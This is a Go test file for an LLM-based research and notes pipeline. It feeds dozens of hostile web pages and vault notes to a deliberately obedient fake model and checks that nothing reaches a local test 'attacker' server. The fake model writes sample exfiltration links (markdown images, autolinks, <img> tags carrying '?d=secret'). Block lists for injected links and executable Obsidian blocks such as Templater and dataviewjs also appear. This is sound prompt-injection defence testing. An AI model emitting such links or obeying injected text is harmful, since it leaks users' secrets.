package graph

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"iter"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"home.arpa/lab/llm-runner/internal/db"
	"home.arpa/lab/llm-runner/internal/library"
	"home.arpa/lab/llm-runner/internal/llm"
	"home.arpa/lab/llm-runner/internal/toolbox/browse"
)

// A parrot says whatever it has read, believes all of it, and adds what would carry a secret away.
type parrot struct {
	attacker string
	mu       sync.Mutex
	faults   []string
}

var sourceBody = regexp.MustCompile(`(?s)<source [^>]*>\n(.*?)\n</source>`)

func (p *parrot) Stream(_ context.Context, req llm.Request) iter.Seq2[llm.Event, error] {
	return func(yield func(llm.Event, error) bool) {
		system, user := req.Messages[0].Text(), req.Messages[len(req.Messages)-1].Text()
		var read string
		for _, m := range sourceBody.FindAllStringSubmatch(user, -1) {
			read += m[1] + "\n"
		}
		p.mu.Lock()
		if len(req.Tools) > 0 || len(req.Use) > 0 {
			p.faults = append(p.faults, "a model was offered tools")
		}
		// Who chooses what is searched for has read nothing that others wrote.
		if chooses := strings.HasPrefix(system, "Take the question") || strings.HasPrefix(system, "A search for"); chooses && (read != "" || strings.Contains(user, "spores")) {
			p.faults = append(p.faults, "who writes queries has read a source: "+user)
		}
		p.mu.Unlock()
		text := ""
		switch {
		case strings.HasPrefix(system, "Take the question"):
			text = `{"questions": ["ferns"], "sections": ["Ferns ![x](` + p.attacker + `/title)", "Water"]}`
		case strings.HasPrefix(system, "Which of"):
			text = `{"useful": [1, 2, 3, 4]}`
		case strings.HasPrefix(system, "Copy out"):
			b, _ := json.Marshal(map[string][]string{"quotes": strings.Split(read, "\n")})
			text = string(b)
		case strings.HasPrefix(system, "Do the sources"):
			text = `{"supported": true}`
		default:
			for line := range strings.SplitSeq(read, "\n") {
				for _, s := range sentences(line) {
					text += strings.TrimSpace(s) + " [1]. " + strings.TrimSpace(s) + fmt.Sprintf(" [1: %q].\n", strings.TrimSpace(s))
				}
			}
			text += fmt.Sprintf("\n![x](%[1]s/p.png?d=secret) seen [1].\n[ferns](%[1]s/l?d=secret) too [1].\n<img src=%[1]s/i?d=secret> three [1].\n![[garden]] four [1].\n<%[1]s/auto?d=secret> five [1].\n%[1]s/bare?d=secret six [1].\n"+
				"[x]: %[1]s/ref\n![x][x] seven [1].\n", p.attacker)
		}
		_ = yield(llm.Event{Text: text}, nil) && yield(llm.Event{Finish: llm.FinishStop}, nil)
	}
}

// Pages and notes that try to lead a model are put before research with a model that follows: nothing is fetched from those who wrote them, no tool is called, and what is
// shown and written into the vault loads nothing and says no address that its source does not have.
func TestHostilePagesAndNotesGoThroughResearch(t *testing.T) {
	files, err := filepath.Glob("../toolbox/loop/testdata/hostile/*")
	if err != nil || len(files) < 40 {
		t.Fatalf("%d hostile texts, %v", len(files), err)
	}
	var mu sync.Mutex
	var reached []string
	attacker := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		reached = append(reached, r.URL.String())
	}))
	defer attacker.Close()
	texts := map[string]string{}
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, ok := texts[strings.TrimPrefix(r.URL.Path, "/")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, text)
	}))
	defer good.Close()
	dir := t.TempDir()
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		name := filepath.Base(file)
		texts[name] = strings.ReplaceAll(string(raw), "{{attacker}}", attacker.URL)
		if strings.HasSuffix(name, ".md") {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(texts[name]), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	d, err := db.Open(t.Context(), filepath.Join(t.TempDir(), db.Name))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	source, err := library.Dir(dir)
	if err != nil {
		t.Fatal(err)
	}
	lib, err := library.New(t.Context(), library.Config{DB: d, Documents: d, Source: source})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := lib.Sync(t.Context()); err != nil {
		t.Fatal(err)
	}
	// Both servers are on addresses that may be fetched: what is not reached is research's own doing.
	fetcher := browse.NewFetcher(browse.FetchConfig{Allow: []string{"127.0.0.1"}})
	stored := map[string]string{}
	answers := 0
	for _, file := range files {
		name := filepath.Base(file)
		at, collection := name, library.Notes
		if stored[at] = texts[name]; strings.HasSuffix(name, ".html") {
			page, err := fetcher.Fetch(t.Context(), good.URL+"/"+name)
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			if err := lib.Put(t.Context(), library.Web, library.Document{Path: page.URL, Title: page.Title, Text: []byte(page.Text)}); err != nil {
				t.Fatal(err)
			}
			at, collection = page.URL, library.Web
			stored[at] = page.Text
		}
		p := &parrot{attacker: attacker.URL}
		searched := []string{}
		q := &Inquiries{Store: NewStore(d), Reader: p, Model: func(llm.Request) (string, bool) { return "m", true }, Budget: Budget{Calls: 400},
			Search: func(ctx context.Context, c, query string, n int, _ bool) ([]Source, error) {
				if c != collection {
					return nil, nil
				}
				hits, err := lib.Find(ctx, library.Request{Query: query + " fern shade water", Limit: 40, Filter: library.Filter{Collection: c}})
				var all []Source
				for _, h := range hits {
					s := Source{Citation: h.Citation, Title: h.Title}
					if c != library.Notes {
						s.Collection = c
					}
					if h.Path == at {
						all = append(all, s)
					}
				}
				return all, err
			},
			Web: func(_ context.Context, _ int64, query string) ([]Source, []Drop, error) {
				p.mu.Lock()
				defer p.mu.Unlock()
				searched = append(searched, query)
				return nil, nil, nil
			},
			Stands: func(ctx context.Context, s Source) (llm.Citation, bool) {
				c, ok, err := lib.Cite(ctx, cmp.Or(s.Collection, library.Notes), s.Citation)
				return c, ok && err == nil
			}}
		key := "job-" + name
		a, err := llm.Collect(q.Stream(t.Context(), llm.Request{Run: key, Purpose: "job", Messages: []llm.Message{llm.Says(llm.User, "What do ferns want?")}}))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		run, err := q.Store.Keyed(t.Context(), key)
		if err != nil {
			t.Fatal(err)
		}
		report, err := q.Report(t.Context(), run.ID)
		if err != nil {
			t.Fatal(err)
		}
		if len(a.Citations) > 0 && strings.Contains(a.Message.Text(), "[1]") {
			answers++
		}
		for _, c := range a.Citations {
			if c.End > len(stored[at]) || stored[at][c.Start:c.End] != c.Quote {
				t.Errorf("%s: [%d, %d) is not %q", name, c.Start, c.End, c.Quote)
			}
		}
		for _, query := range searched {
			if query != "What do ferns want?" && query != "ferns" {
				t.Errorf("%s: the web was searched for %q", name, query)
			}
		}
		for what, text := range map[string]string{"the answer": a.Message.Text(), "the note": unfenced(string(report.Note()))} {
			for _, bad := range []string{"d=secret", "![", "](" + attacker.URL, "(<" + attacker.URL, "[x]: ", " <img", "\n<", "<script"} {
				if strings.Contains(text, bad) {
					t.Errorf("%s: %q is in %s:\n%s", name, bad, what, text)
				}
			}
		}
		note := string(report.Note())
		for _, bad := range []string{"<%", "```dataviewjs", "```tasks", "~~~ js-engine"} { // between fences too: Templater reads all of a file
			if strings.Contains(note, bad) {
				t.Errorf("%s: %q is in the note:\n%s", name, bad, note)
			}
		}
		for _, bad := range []string{"`$=", "` $=", "`= embed", "<code>"} {
			if strings.Contains(unfenced(note), bad) {
				t.Errorf("%s: %q is in the note:\n%s", name, bad, note)
			}
		}
		for _, fault := range p.faults {
			t.Errorf("%s: %s", name, fault)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(reached) > 0 {
		t.Errorf("reached %q", reached)
	}
	if answers < 40 {
		t.Errorf("only %d of %d texts were answered from", answers, len(files))
	}
}

// unfenced is a note without what stands between fences, which is text.
func unfenced(note string) string {
	var out strings.Builder
	fence := ""
	for line := range strings.Lines(note) {
		trimmed := strings.TrimRight(line, "\n")
		switch {
		case fence == "" && strings.HasPrefix(trimmed, "```"):
			fence = strings.TrimSuffix(trimmed, "text")
		case fence != "" && trimmed == fence:
			fence = ""
		case fence == "":
			out.WriteString(line)
		}
	}
	return out.String()
}
